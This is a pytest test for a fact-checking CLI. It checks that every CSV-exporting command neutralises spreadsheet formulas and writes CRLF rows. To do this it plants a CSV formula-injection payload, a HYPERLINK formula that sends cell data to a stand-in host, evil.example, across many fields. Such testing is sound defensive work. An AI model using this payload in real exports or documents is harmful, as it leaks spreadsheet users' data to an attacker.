"""Every command that writes CSV writes it the one way: no cell a spreadsheet would run as a formula,
rows ending with CRLF. The test finds the commands itself, so a new one cannot be forgotten."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import typer
from sqlalchemy import text
from typer.testing import CliRunner

from claims.cli import app
from claims.db import make_engine
from claims.spreadsheet import FORMULA_STARTS

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'

# Every command with a CSV format, and the arguments that make it print the poisoned data.
CSV_COMMANDS = {
    "list": ["list", "--format", "csv"],
    "show": ["show", "1", "--format", "csv"],
    "history": ["history", "1", "--format", "csv"],
    "queue": ["queue", "--format", "csv"],
    "entities": ["entities", "--format", "csv"],
    "extract": ["extract", "article.txt", "--all", "--format", "csv"],
    "report": ["report", "--format", "csv"],
    "evidence list": ["evidence", "list", "1", "--format", "csv"],
    "source list": ["source", "list", "--format", "csv"],
    "source show": ["source", "show", "1", "--format", "csv"],
    "editor list": ["editor", "list", "--format", "csv"],
    "editor history": ["editor", "history", "--format", "csv"],
    "factchecks list": ["factchecks", "list", "--format", "csv"],
    "factchecks show": ["factchecks", "show", "1", "--format", "csv"],
    "export claims": ["export", "claims", "--format", "csv"],
}


def csv_commands() -> set[str]:
    """The commands whose --format offers csv."""
    found: set[str] = set()

    def walk(command: typer.core.TyperGroup, path: str) -> None:
        for name, sub in getattr(command, "commands", {}).items():
            walk(sub, f"{path} {name}".strip())
        for parameter in getattr(command, "params", []):
            choices = getattr(parameter.type, "choices", ())
            if "--format" in getattr(parameter, "opts", []) and "csv" in [str(getattr(c, "value", c)) for c in choices]:
                found.add(path)

    walk(typer.main.get_command(app), "")
    return found


def test_the_test_runs_every_csv_command() -> None:
    assert csv_commands() - {"import"} == set(CSV_COMMANDS)  # import reads CSV


def test_every_csv_output_neutralises_formulas(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    env = {"CLAIMS_DATABASE_URL": database_url, "CLAIMS_EDITOR": FORMULA}
    runner = CliRunner()

    def run(*args: str) -> str:
        result = runner.invoke(app, list(args), env=env, catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result.stdout_bytes.decode("utf-8")  # as written: .stdout makes CRLF a line feed

    Path("article.txt").write_text(f"{FORMULA} Acme grew its revenue by 5% to $3.2bn in 2020.\n", encoding="utf-8")
    run("source", "add", "article.txt", "--title", FORMULA, "--outlet", FORMULA, "--url", "https://e.org/a")
    run("add", f"{FORMULA} said Acme", "--source", "1", "--claimant", FORMULA, "--note", FORMULA)
    claim = 2
    run("evidence", "add", str(claim), "https://e.org/x", "--stance", "supports", "--quote", FORMULA)
    run("assign", str(claim), "--to", FORMULA)
    engine = make_engine(database_url)
    with engine.begin() as connection:  # another program writing to the database
        connection.execute(text("INSERT INTO entities (name, label) VALUES (:name, 'organization')"), {"name": FORMULA})
        connection.execute(text("INSERT INTO claim_entities (claim_id, entity_id) SELECT 1, max(id) FROM entities"))
    engine.dispose()
    run("editor", "add", FORMULA)
    check = {"@type": "ClaimReview", "claimReviewed": FORMULA, "url": "https://e.org/check", "author": FORMULA}
    Path("checks.json").write_text(json.dumps([check]), encoding="utf-8")
    run("factchecks", "import", "checks.json")

    for name, args in CSV_COMMANDS.items():
        args = [str(claim) if arg == "1" and name in ("show", "history", "evidence list") else arg for arg in args]
        output = run(*args)
        assert "HYPERLINK" in output, f"`claims {name}` did not print the data the test planted"
        assert output.endswith("\r\n") and "\n" not in output.replace("\r\n", ""), f"`claims {name}`: not CRLF rows"
        for row in csv.reader(io.StringIO(output, newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), f"`claims {name}` wrote a formula: {cell!r}"
